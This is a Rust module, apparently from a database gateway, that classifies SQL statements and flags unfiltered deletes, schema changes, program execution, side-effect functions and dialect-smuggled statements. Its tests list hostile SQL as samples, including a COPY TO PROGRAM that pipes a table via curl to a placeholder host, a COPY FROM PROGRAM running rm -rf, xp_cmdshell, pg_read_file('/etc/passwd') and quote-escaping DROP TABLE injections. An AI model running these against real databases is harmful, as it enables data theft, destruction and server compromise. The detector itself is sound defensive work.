//! SQL statements: what kind each statement is, which tables it touches,
//! the classic accidents (`DELETE`/`UPDATE` without `WHERE`), and what
//! runs beyond the data (programs, procedures, functions with effects).
//!
//! The text is parsed by `sqlparser` into a syntax tree, so comments,
//! case, whitespace and extra statements change nothing:
//! `/* hi */ DeLeTe from t` is a `delete` without `WHERE`, and
//! `select 1; drop table x` has two statements, one a `drop_table`.
//! What the parser rejects is a [`SqlFacts::parse_error`].
//!
//! Parsing costs time in proportion to the text, once per dialect that
//! reads it differently (see [`dialects`]), so a text over
//! [`MAX_STATEMENT_BYTES`], or over [`MAX_STATEMENT_TOKENS`] in any
//! dialect, is a parse error before any dialect's parser runs: a decision
//! stays cheap whatever is sent, and honest statements (a 20,000-value
//! `IN` list, a 5,000-row `INSERT`) fit well within both.
//!
//! - [`bounds`]: depth, size and statement limits checked on the tokens
//!   before parsing, so no input can overflow a stack;
//! - [`dialects`]: the dialects a text is judged in, since the claimed
//!   one is only a claim;
//! - [`walk`]: the facts of one parsed text;
//! - [`functions`]: the functions known to have no side effect;
//! - [`pglex`]: PostgreSQL's own reading of where strings, comments and
//!   statements are, which `sqlparser`'s must match;
//! - [`quoted`]: which of `sqlparser`'s tokens are quoted text.

mod bounds;
mod dialects;
mod functions;
pub mod pglex;
mod quoted;
mod walk;

use serde::{Deserialize, Serialize};
use serde_json::Value;

pub use dialects::Dialects;

/// The most statement kinds, tables and functions listed.
const MAX_LISTED: usize = 64;

/// The longest SQL text analysed (half the facts' general
/// [`crate::MAX_INPUT_BYTES`]); a longer one is a parse error, unparsed.
pub const MAX_STATEMENT_BYTES: usize = 128 * 1024;

/// The most tokens (whitespace included) a SQL text may hold in any
/// dialect; more is a parse error, unparsed.
pub const MAX_STATEMENT_TOKENS: usize = bounds::MAX_TOKENS;

/// What a SQL payload does.
///
/// Serialised as the `sql` record of the facts; field names are stable.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SqlFacts {
    /// The dialect named for the text: the payload's `dialect` (`generic`,
    /// `postgres`, `mysql`, `sqlite`, `mssql`, `snowflake`, `bigquery`, …)
    /// or `generic`, or the one the gateway decided. A claimed dialect is
    /// not the only one the text is judged in (see
    /// [`SqlFacts::dialect_ambiguous`]).
    pub dialect: String,
    /// Each statement's kind in `snake_case`, in order of first
    /// appearance, nested statements included (a `DELETE` in a CTE, the
    /// statement an `EXPLAIN` explains): `select`, `insert`, `update`,
    /// `delete`, `merge`, `truncate`, `create_table`, `alter_table`,
    /// `drop_table`, `drop_schema`, `grant`, `copy`, `call`, `execute`,
    /// `explain`, … (`DROP` carries its object type).
    pub statement_kinds: Vec<String>,
    /// The tables and views named anywhere (joins, subqueries, CTEs,
    /// `DROP TABLE`): each qualified name as written (`public.users`) and
    /// also bare (`users`). Unquoted names are lowercased; quoted names are
    /// kept as written where the dialect compares them by case
    /// (PostgreSQL, the standard) and lowercased where it does not (MySQL,
    /// SQLite, SQL Server).
    pub tables: Vec<String>,
    /// Some statement deletes rows with no filter: a `DELETE` (also with
    /// `USING`) without `WHERE` or with one that mentions no column or
    /// cannot keep a row out (`WHERE 1=1`, `WHERE true`, `WHERE id = 1 OR
    /// true`, `WHERE id = id`), a `TRUNCATE`, a `MERGE … THEN DELETE`.
    pub delete_without_where: bool,
    /// Some statement updates rows with no filter: an `UPDATE` (also with
    /// `FROM`) without such a `WHERE`, a `MERGE … THEN UPDATE`.
    pub update_without_where: bool,
    /// Some statement changes the schema: `CREATE …`, `ALTER …`, `DROP …`,
    /// `TRUNCATE`, `RENAME …`, `COMMENT ON …`.
    pub is_ddl: bool,
    /// Every statement is known to only read: a query, `EXPLAIN`,
    /// `DESCRIBE` or `SHOW …`, holding no data-modifying statement (a
    /// `DELETE` in a CTE), no `SELECT … INTO`, no locking clause (`FOR
    /// UPDATE`), no user-defined operator and no function outside the list
    /// of those known to have no side effect; and the dialects agree on
    /// what the text is. Anything not known to be safe is not read-only.
    pub is_read_only: bool,
    /// How many statements the text holds (in the reading with the most).
    pub statement_count: usize,
    /// The text could not be parsed (or was missing, not a string, empty,
    /// in an unknown dialect, over the size or depth limits, or another
    /// dialect reads statements into it that no parser here understands).
    pub parse_error: bool,
    /// Some statement runs a program on the database server: `COPY … TO
    /// PROGRAM` / `FROM PROGRAM`, SQL Server's `xp_cmdshell`.
    #[serde(default)]
    pub runs_program: bool,
    /// Some statement runs a stored procedure or prepared statement:
    /// `CALL`, `EXECUTE`, `EXEC`.
    #[serde(default)]
    pub calls_procedure: bool,
    /// The functions called (lowercased, as qualified) that are not on the
    /// list of those known to have no side effect: `pg_terminate_backend`,
    /// `nextval`, `set_config`, any user's function, …
    #[serde(default)]
    pub side_effect_functions: Vec<String>,
    /// Dialects that could run the text disagree on where its statements,
    /// strings or comments are (`SELECT '\'; DROP TABLE t; -- '`): the
    /// facts merge every reading, worst case, and the text is not
    /// read-only.
    #[serde(default)]
    pub dialect_ambiguous: bool,
}

/// Analyses an `sql.*` payload: `statement` (the SQL text) and an optional
/// `dialect`, which is the submitter's claim ([`Dialects::Claimed`]),
/// unless the gateway knows the resource's dialect (`bound`).
pub(crate) fn from_payload(payload: &Value, bound: Option<&str>) -> SqlFacts {
    if let Some(dialect) = bound {
        return match payload.get("statement").and_then(Value::as_str) {
            Some(text) => analyse_as(text, &Dialects::Decided(dialect)),
            None => SqlFacts { dialect: dialect.to_owned(), parse_error: true, ..SqlFacts::default() },
        };
    }
    let dialect = match payload.get("dialect") {
        None | Some(Value::Null) => Some("generic"),
        Some(Value::String(name)) => Some(name.as_str()),
        Some(Value::Bool(_) | Value::Number(_) | Value::Array(_) | Value::Object(_)) => None,
    };
    match (payload.get("statement").and_then(Value::as_str), dialect) {
        (Some(text), Some(dialect)) => analyse(text, dialect),
        (Some(_), None) | (None, Some(_) | None) => {
            SqlFacts { dialect: dialect.unwrap_or("generic").to_owned(), parse_error: true, ..SqlFacts::default() }
        }
    }
}

/// Analyses SQL `text` that its submitter says is in `dialect` (see
/// [`SqlFacts::dialect`]): judged in it and every other common dialect.
pub fn analyse(text: &str, dialect: &str) -> SqlFacts {
    analyse_as(text, &Dialects::Claimed(dialect))
}

/// Analyses SQL `text` in the dialects `dialects` says.
pub fn analyse_as(text: &str, dialects: &Dialects<'_>) -> SqlFacts {
    let name = match dialects {
        Dialects::Claimed(name) | Dialects::Decided(name) => name,
    };
    let mut facts = SqlFacts { dialect: name.to_ascii_lowercase(), ..SqlFacts::default() };
    if text.len() > MAX_STATEMENT_BYTES {
        facts.parse_error = true;
        return facts;
    }
    dialects::judge(text, dialects, &mut facts);
    if facts.parse_error {
        facts.is_read_only = false;
    }
    facts
}

/// The facts of several SQL texts as one: the SQL that database clients
/// on a shell command line run (`psql -c`, `mysql -e`, `sqlite3 FILE SQL`),
/// each in its client's dialect (the client decides it, not a claim).
/// A computed text (`psql -c "$Q"`) is a parse error.
pub(crate) fn merge(texts: &[crate::shell::SqlText]) -> Option<SqlFacts> {
    let (first, rest) = texts.split_first()?;
    let one = |t: &crate::shell::SqlText| {
        if t.dynamic {
            SqlFacts { dialect: t.dialect.to_owned(), parse_error: true, ..SqlFacts::default() }
        } else if t.claimed {
            analyse_as(&t.text, &Dialects::Claimed(t.dialect))
        } else {
            analyse_as(&t.text, &Dialects::Decided(t.dialect))
        }
    };
    let mut all = one(first);
    for part in rest.iter().map(one) {
        // Separate texts run one after the other: their statements add up.
        let count = all.statement_count.saturating_add(part.statement_count);
        combine(&mut all, part);
        all.statement_count = count;
    }
    Some(all)
}

/// Adds `part` to `all`, worst case: every kind, table and function, each
/// danger of either, read-only only if both are.
fn combine(all: &mut SqlFacts, part: SqlFacts) {
    for kind in part.statement_kinds {
        push_unique(&mut all.statement_kinds, kind);
    }
    for table in part.tables {
        push_unique(&mut all.tables, table);
    }
    for function in part.side_effect_functions {
        push_unique(&mut all.side_effect_functions, function);
    }
    all.delete_without_where |= part.delete_without_where;
    all.update_without_where |= part.update_without_where;
    all.is_ddl |= part.is_ddl;
    all.is_read_only &= part.is_read_only;
    all.statement_count = all.statement_count.max(part.statement_count);
    all.parse_error |= part.parse_error;
    all.runs_program |= part.runs_program;
    all.calls_procedure |= part.calls_procedure;
    all.dialect_ambiguous |= part.dialect_ambiguous;
}

fn push_unique(list: &mut Vec<String>, value: String) {
    if list.len() < MAX_LISTED && !list.contains(&value) {
        list.push(value);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sql(text: &str) -> SqlFacts {
        analyse(text, "generic")
    }

    fn pg(text: &str) -> SqlFacts {
        analyse_as(text, &Dialects::Decided("postgres"))
    }

    #[test]
    fn kinds_and_tables() {
        let f = sql("SELECT o.id FROM Shop.Orders o JOIN \"Users\" u ON u.id = o.user_id WHERE o.total > 5");
        assert_eq!(f.statement_kinds, ["select"]);
        assert_eq!(f.tables, ["shop.orders", "orders", "Users"]);
        assert!(f.is_read_only && !f.is_ddl && !f.parse_error && !f.dialect_ambiguous, "{f:?}");
        assert_eq!(f.statement_count, 1);

        let f = sql("insert into audit select * from events; update t set a = 1 where id = 2");
        assert_eq!(f.statement_kinds, ["insert", "update"]);
        assert_eq!(f.tables, ["audit", "events", "t"]);
        assert!(!f.is_read_only && !f.update_without_where);
    }

    #[test]
    fn tables_are_reported_qualified_and_bare() {
        let f = pg("DELETE FROM public.users WHERE id = 1");
        assert_eq!(f.tables, ["public.users", "users"]);
        let f = pg("SELECT * FROM \"Public\".\"Users\", db.s.t");
        assert_eq!(f.tables, ["Public.Users", "Users", "db.s.t", "t"]);
        // Quoted names fold where the dialect compares them without case.
        for dialect in ["mysql", "sqlite", "mssql"] {
            let f = analyse_as("DROP TABLE `Main`.`Users`", &Dialects::Decided(dialect));
            let g = analyse_as("DROP TABLE [Main].[Users]", &Dialects::Decided(dialect));
            let h = analyse_as("DROP TABLE \"Main\".\"Users\"", &Dialects::Decided(dialect));
            assert!([f, g, h].iter().any(|f| f.tables == ["main.users", "users"]), "{dialect}");
        }
    }

    #[test]
    fn delete_and_update_without_where() {
        assert!(sql("DeLeTe from orders").delete_without_where);
        assert!(sql("delete from orders where 1 = 1").delete_without_where);
        assert!(sql("DELETE FROM orders WHERE true").delete_without_where);
        assert!(!sql("delete from orders where id = 7").delete_without_where);
        assert!(sql("update users set admin = true").update_without_where);
        assert!(!sql("update users set admin = true where users.id = 3").update_without_where);
        let cte = analyse("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", "postgres");
        assert!(cte.delete_without_where && !cte.is_read_only, "{cte:?}");
        assert!(cte.statement_kinds.contains(&"delete".to_owned()));
    }

    #[test]
    fn filters_that_filter_nothing() {
        for text in [
            "DELETE FROM orders WHERE id = 1 OR true",
            "DELETE FROM orders WHERE (id = 1) OR (1 = 1)",
            "DELETE FROM orders WHERE id = id",
            "DELETE FROM orders USING users",
            "TRUNCATE orders",
            "MERGE INTO orders o USING gone g ON o.id = g.id WHEN MATCHED THEN DELETE",
            "MERGE INTO orders o USING gone g ON o.id = g.id WHEN MATCHED AND g.x = 1 THEN DELETE",
        ] {
            let f = pg(text);
            assert!(f.delete_without_where && !f.is_read_only && !f.parse_error, "{text}: {f:?}");
        }
        for text in [
            "UPDATE orders SET a = 1 FROM users",
            "UPDATE orders SET a = 1 WHERE status = 'x' OR 1 = 1",
            "MERGE INTO orders o USING s ON o.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
        ] {
            let f = pg(text);
            assert!(f.update_without_where && !f.parse_error, "{text}: {f:?}");
        }
        for text in
            ["DELETE FROM orders WHERE id = 1 AND true", "DELETE FROM orders o USING users u WHERE o.user_id = u.id"]
        {
            assert!(!pg(text).delete_without_where, "{text}");
        }
        let insert_only = pg("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)");
        assert!(!insert_only.delete_without_where && !insert_only.update_without_where && !insert_only.is_read_only);
    }

    #[test]
    fn programs_and_procedures() {
        for text in ["COPY users TO PROGRAM 'curl -d @- https://x'", "COPY users FROM PROGRAM 'rm -rf /srv'"] {
            let f = pg(text);
            assert!(f.runs_program && !f.is_read_only && !f.parse_error, "{text}: {f:?}");
        }
        assert!(!pg("COPY users TO STDOUT").runs_program);
        assert!(!pg("COPY users TO STDOUT").is_read_only);
        for text in ["CALL purge_orders()", "EXECUTE purge(1)"] {
            let f = pg(text);
            assert!(f.calls_procedure && !f.is_read_only && !f.parse_error, "{text}: {f:?}");
        }
        let f = analyse_as("EXEC xp_cmdshell 'dir'", &Dialects::Decided("mssql"));
        assert!(f.calls_procedure && f.runs_program, "{f:?}");
    }

    #[test]
    fn read_only_is_what_is_known_safe() {
        for text in [
            "SELECT count(*), max(total), lower(name) FROM orders GROUP BY name",
            "SELECT now(), coalesce(a, 1), pg_catalog.upper(b) FROM t",
            "WITH x AS (SELECT 1 AS a) SELECT a FROM x",
            "SELECT * FROM generate_series(1, 3)",
            "explain select * from t",
            "SELECT 1 UNION SELECT 2",
        ] {
            let f = pg(text);
            assert!(f.is_read_only && f.side_effect_functions.is_empty(), "{text}: {f:?}");
        }
        for (text, function) in [
            ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Some("pg_terminate_backend")),
            ("SELECT pg_cancel_backend(42)", Some("pg_cancel_backend")),
            ("SELECT lo_import('/etc/passwd')", Some("lo_import")),
            ("SELECT pg_read_file('/etc/passwd')", Some("pg_read_file")),
            ("SELECT dblink_exec('db', 'DROP TABLE t')", Some("dblink_exec")),
            ("SELECT set_config('role', 'admin', false)", Some("set_config")),
            ("SELECT nextval('s')", Some("nextval")),
            ("SELECT pg_reload_conf()", Some("pg_reload_conf")),
            ("SELECT lo_unlink(1)", Some("lo_unlink")),
            ("SELECT my_function(1)", Some("my_function")),
            ("SELECT public.lower('A')", Some("public.lower")),
            ("SELECT * FROM dblink('db', 'DELETE FROM t') AS x(a int)", Some("dblink")),
            ("SELECT * FROM t WHERE a = (SELECT pg_sleep(10))", Some("pg_sleep")),
            ("SELECT * FROM t FOR UPDATE", None),
            ("SELECT * INTO backup FROM t", None),
            ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", None),
            ("WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM u", None),
            ("explain analyze delete from t", None),
            ("SET search_path = evil", None),
            ("BEGIN", None),
            ("PREPARE p AS SELECT 1", None),
            ("LISTEN x", None),
        ] {
            let f = pg(text);
            assert!(!f.is_read_only, "{text}: {f:?}");
            if let Some(function) = function {
                assert!(f.side_effect_functions.contains(&function.to_owned()), "{text}: {f:?}");
            }
        }
        assert!(analyse("show tables", "mysql").is_read_only);
        assert!(!sql("select 1; delete from t where id = 1").is_read_only);
    }

    #[test]
    fn ddl_however_it_is_hidden() {
        let f = sql("select 1; drop table x");
        assert_eq!(f.statement_kinds, ["select", "drop_table"]);
        assert_eq!(f.statement_count, 2);
        assert!(f.is_ddl && !f.is_read_only);
        assert_eq!(f.tables, ["x"]);

        let f = sql("/* harmless */ SELECT 1 -- nothing here\n; /* see */ DROP /* x */ TABLE users");
        assert_eq!(f.statement_kinds, ["select", "drop_table"]);
        assert!(f.is_ddl);

        for ddl in
            ["truncate table t", "alter table t add column c int", "create table t (a int)", "drop schema s cascade"]
        {
            assert!(sql(ddl).is_ddl, "{ddl}");
        }
        assert_eq!(sql("DROP SCHEMA s").statement_kinds, ["drop_schema"]);
        assert_eq!(sql("drop materialized view v").statement_kinds, ["drop_materialized_view"]);
    }

    #[test]
    fn the_claimed_dialect_does_not_hide_statements() {
        // One string in MySQL, a DROP in PostgreSQL: whatever the claim.
        let text = r"SELECT '\'; DROP TABLE users; -- '";
        for claim in ["mysql", "postgres", "generic", "sqlite", "mssql", "bigquery"] {
            let f = analyse(text, claim);
            assert!(f.is_ddl && f.dialect_ambiguous && !f.is_read_only, "{claim}: {f:?}");
            assert!(f.tables.contains(&"users".to_owned()), "{claim}: {f:?}");
        }
        // `#` starts a comment in MySQL only.
        let f = analyse("SELECT 1 #\n; DROP TABLE users", "postgres");
        assert!((f.is_ddl || f.parse_error) && !f.is_read_only, "{f:?}");
        // MySQL runs the inside of `/*! … */`.
        let hidden = "SELECT 1 /*! ; DROP TABLE users */";
        for claim in ["postgres", "generic", "mysql"] {
            let f = analyse(hidden, claim);
            assert!((f.is_ddl || f.parse_error) && !f.is_read_only, "{claim}: {f:?}");
        }
        // A function hidden in a string in one reading.
        let f = analyse(r"SELECT '\', pg_terminate_backend(1), '\'", "mysql");
        assert!(!f.is_read_only, "{f:?}");
        // The gateway's own decision is final: PostgreSQL reads a
        // backslash as a character, so this is one harmless SELECT there.
        let f = pg(r"SELECT 'C:\dir\'");
        assert!(f.is_read_only && !f.dialect_ambiguous, "{f:?}");
        let f = analyse_as(text, &Dialects::Decided("mysql"));
        assert!(f.is_read_only && !f.is_ddl, "{f:?}");
        // Text every dialect reads alike is not ambiguous.
        let f = analyse("SELECT id FROM orders WHERE status = 'open'", "mysql");
        assert!(f.is_read_only && !f.dialect_ambiguous, "{f:?}");
    }

    /// PostgreSQL statements that look like reads and change something,
    /// take locks, read server files or run other statements.
    #[test]
    fn postgresql_reads_with_effects_are_not_read_only() {
        for text in [
            "SELECT * FROM orders FOR UPDATE",
            "SELECT * FROM orders FOR NO KEY UPDATE",
            "SELECT * FROM orders FOR SHARE",
            "SELECT * FROM orders FOR KEY SHARE SKIP LOCKED",
            "EXPLAIN ANALYZE DELETE FROM orders",
            "EXPLAIN (ANALYZE, FORMAT JSON) UPDATE orders SET item = 'x'",
            "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x",
            "WITH x AS (SELECT 1), y AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM x",
            "SELECT nextval('s')",
            "SELECT nextval('s')::int",
            "VALUES (nextval('s'))",
            "SELECT * FROM generate_series(1, 3) g, LATERAL (SELECT nextval('s')) x",
            "SELECT 1 WHERE EXISTS (SELECT pg_terminate_backend(1))",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "SELECT lo_import('/etc/passwd')",
            "SELECT set_config('search_path', 'evil', false)",
            "SELECT * FROM dblink('host=x', 'DELETE FROM orders') AS t(x int)",
            "SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')",
            "SELECT txid_current()",
            "SELECT pg_advisory_lock(1)",
            "SELECT pg_sleep(10)",
            "SELECT * INTO copy_of_orders FROM orders",
            "TABLE orders; DELETE FROM orders",
            "SELECT 1 FROM orders WHERE id = ANY (SELECT nextval('s'))",
            "SELECT CASE WHEN true THEN pg_notify('c', 'x') END",
            "SELECT 'a' OPERATOR(public.+) 'b'",
            "DECLARE c CURSOR FOR SELECT 1",
            "FETCH ALL FROM c",
            "EXECUTE p",
            "PREPARE p AS SELECT 1",
            "LISTEN c",
            "NOTIFY c",
            "CALL p()",
            "DO $$ BEGIN DELETE FROM orders; END $$",
            "COPY orders TO STDOUT",
            "SET search_path = evil",
            "SET ROLE admin",
            "SET SESSION AUTHORIZATION admin",
            "RESET ALL",
            "DISCARD ALL",
            "LOCK TABLE orders",
            "VACUUM orders",
            "ANALYZE orders",
            "CHECKPOINT",
            "REFRESH MATERIALIZED VIEW v",
            "SELECT pg_catalog.setval('s', 1)",
            "SELECT current_setting('x'), set_config('x', 'y', true)",
        ] {
            let f = pg(text);
            assert!(!f.is_read_only, "{text}: {f:?}");
        }
        for text in ["SELECT count(*) FROM orders", "SHOW search_path", "EXPLAIN SELECT 1"] {
            assert!(pg(text).is_read_only, "{text}");
        }
    }

    #[test]
    fn what_cannot_be_parsed() {
        assert!(sql("DROP TABEL x").parse_error);
        assert!(sql("").parse_error);
        assert!(sql("-- only a comment").parse_error);
        assert!(analyse("select 1", "klingon").parse_error);
        assert!(from_payload(&serde_json::json!({"statement": 5}), None).parse_error);
        assert!(from_payload(&serde_json::json!({}), None).parse_error);
        assert!(from_payload(&serde_json::json!({"statement": "select 1", "dialect": 1}), None).parse_error);
        let deep = format!("select {}1{}", "(".repeat(500), ")".repeat(500));
        assert!(sql(&deep).parse_error);
    }

    #[test]
    fn bounds_refuse_deep_and_long_chains_before_parsing() {
        // Each of these built a left-deep tree thousands of boxes deep.
        for text in [
            format!("select 1{}", " + 1".repeat(32_000)),
            format!("select 'a'{}", " || 'a'".repeat(5_000)),
            format!("delete from t where {}", vec!["a = 1"; 5_000].join(" or ")),
            format!("select 1{}", " union select 1".repeat(5_000)),
            format!("select x{}", "::int".repeat(5_000)),
            format!("select x{}", "[1]".repeat(5_000)),
            "select 1;".repeat(5_000),
        ] {
            for dialect in ["generic", "postgres", "mysql", "sqlite", "mssql"] {
                let f = analyse(&text, dialect);
                assert!(f.parse_error && !f.is_read_only, "{dialect}: {text:.40}");
            }
        }
        // Honest width is fine.
        let list = (0..10_000).map(|i| i.to_string()).collect::<Vec<_>>().join(", ");
        assert!(!pg(&format!("select * from t where id in ({list})")).parse_error);
    }

    #[test]
    fn work_is_capped_before_any_parser_runs() {
        // Padded with a comment to exactly the byte limit: parsed.
        let padded = |len: usize| {
            let head = "delete from t -- ";
            format!("{head}{}", "x".repeat(len - head.len()))
        };
        let f = sql(&padded(MAX_STATEMENT_BYTES));
        assert!(!f.parse_error && f.delete_without_where, "{f:?}");
        let f = sql(&padded(MAX_STATEMENT_BYTES + 1));
        assert!(f.parse_error && !f.is_read_only && !f.delete_without_where, "{f:?}");

        // `select * from t where id in (1,1,…)`: two tokens per value.
        let values = |n: usize| format!("select * from t where id in ({})", vec!["1"; n].join(","));
        let head = 15; // `select`, `*`, `from`, `t`, `where`, `id`, `in`, `(` and spaces
        let fits = values((MAX_STATEMENT_TOKENS - head) / 2);
        assert!(fits.len() < MAX_STATEMENT_BYTES);
        let f = sql(&fits);
        assert!(!f.parse_error && f.is_read_only, "{f:?}");
        let over = values((MAX_STATEMENT_TOKENS - head) / 2 + 2);
        assert!(over.len() < MAX_STATEMENT_BYTES);
        for dialect in ["generic", "postgres", "mysql", "sqlite", "mssql"] {
            let f = analyse(&over, dialect);
            assert!(f.parse_error && !f.is_read_only && f.statement_kinds.is_empty(), "{dialect}");
        }
    }

    #[test]
    fn dialects() {
        let f = from_payload(&serde_json::json!({"statement": "DELETE FROM `orders`", "dialect": "mysql"}), None);
        assert_eq!((f.dialect.as_str(), f.tables.clone()), ("mysql", vec!["orders".to_owned()]));
        assert!(f.delete_without_where);
        assert!(!from_payload(&serde_json::json!({"statement": "select 1", "dialect": "sqlite"}), None).parse_error);
    }
}
